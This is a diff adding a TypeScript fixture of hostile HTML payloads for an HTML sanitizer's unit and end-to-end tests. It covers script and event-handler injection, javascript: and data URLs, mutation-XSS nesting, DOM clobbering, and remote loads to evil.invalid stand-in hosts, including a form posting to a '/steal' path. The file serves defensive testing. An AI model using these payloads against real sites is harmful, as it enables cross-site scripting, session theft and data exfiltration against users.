@@ -1,0 +1,65 @@
+// Hostile HTML for the sanitizer's unit tests and the hostile stand of the end-to-end tests. Inspired by
+// DOMPurify's own test payloads and OWASP's XSS filter evasion cheat sheet; written for this project.
+// Every payload that manages to run sets `window.__xss` (or opens a dialog); every one that manages to
+// load something asks for a host under `.invalid`, which the tests watch for.
+
+/** What a payload sets when it runs. */
+export const SENTINEL = '__xss';
+
+const run = `window.${SENTINEL}=1`;
+
+export const XSS_PAYLOADS: readonly string[] = [
+  `<script>${run}</script>`,
+  `<img src=x onerror="${run}">`,
+  `<img src="https://evil.invalid/pixel.png" onload="${run}">`,
+  `<svg onload="${run}"><circle r="4"/></svg>`,
+  `<svg><script>${run}</script></svg>`,
+  `<svg><a xlink:href="javascript:${run}"><text y="10">svg link</text></a></svg>`,
+  `<svg><animate attributeName="href" values="javascript:${run}"/></svg>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror="${run}"></style></mglyph></table></mtext></math>`,
+  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
+  `<math><mi xlink:href="javascript:${run}">math link</mi></math>`,
+  `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${run}">`,
+  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
+  `<a href="javascript:${run}">javascript link</a>`,
+  `<a href="JaVaScRiPt:${run}">mixed-case javascript link</a>`,
+  `<a href="&#106;avascript:${run}">entity javascript link</a>`,
+  `<a href=" &#x09;javascript:${run}">whitespace javascript link</a>`,
+  `<a href="vbscript:msgbox(1)">vbscript link</a>`,
+  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>`,
+  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
+  `<iframe src="javascript:parent.${run}"></iframe>`,
+  `<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" width="560" height="315"></iframe>`,
+  `<form action="https://evil.invalid/steal"><input name="q" autofocus onfocus="${run}"><button formaction="javascript:${run}">Send</button></form>`,
+  `<base href="https://evil.invalid/">`,
+  `<meta http-equiv="refresh" content="0;url=https://evil.invalid/">`,
+  `<link rel="stylesheet" href="https://evil.invalid/style.css">`,
+  `<style>@import url("https://evil.invalid/import.css"); body { background: url("https://evil.invalid/bg.png"); }</style>`,
+  `<div style="background:url(https://evil.invalid/inline-bg.png);width:expression(${run})">styled div</div>`,
+  `<div style="background-image: image-set('https://evil.invalid/set.png' 1x)">image-set</div>`,
+  `<table background="https://evil.invalid/table-bg.png"><tr><td background="https://evil.invalid/td-bg.png">cell</td></tr></table>`,
+  `<object data="https://evil.invalid/object.swf"></object>`,
+  `<object data="javascript:${run}"></object>`,
+  `<embed src="https://evil.invalid/embed.swf">`,
+  `<video poster="https://evil.invalid/poster.png"><source src="https://evil.invalid/video.mp4"></video>`,
+  `<audio src="https://evil.invalid/audio.mp3" autoplay></audio>`,
+  `<img srcset="https://evil.invalid/a.png 1x, https://evil.invalid/b.png 2x">`,
+  `<picture><source srcset="https://evil.invalid/pic.webp"><img src="x.png" alt="picture"></picture>`,
+  `<img src="//evil.invalid/protocol-relative.png">`,
+  `<input type="image" src="https://evil.invalid/input.png">`,
+  `<a href="https://evil.invalid/ping" ping="https://evil.invalid/ping-beacon">ping link</a>`,
+  `<img name="api" src="x"><form name="api"></form><a id="api" href="#x">clobber</a>`,
+  `<img id="getElementById"><img name="cookie"><div id="__xss">clobbered sentinel</div>`,
+  `<details open ontoggle="${run}"><summary>details</summary>open</details>`,
+  `<marquee onstart="${run}">marquee</marquee>`,
+  `<body onload="${run}">`,
+  `<div onmouseover="${run}" onclick="${run}" onfocus="${run}" tabindex="1">events</div>`,
+  `<p data-sa-qr="https://evil.invalid/spoof" data-sa-external="x" class="sa-remote sa-header">spoofed marks</p>`,
+  `<a href="#/collections">fake app route</a>`,
+  `<dialog open>fake dialog</dialog>`,
+  `<template><img src=x onerror="${run}"></template>`,
+  `<x-custom onclick="${run}">custom</x-custom>`,
+  `<img src="x" onerror&#x3d;"${run}">`,
+  `<!--<img src="--><img src=x onerror=${run}//">`,
+  `<a href="standalone://stand/..%2F..%2Fcollections">encoded traversal</a>`,
+];
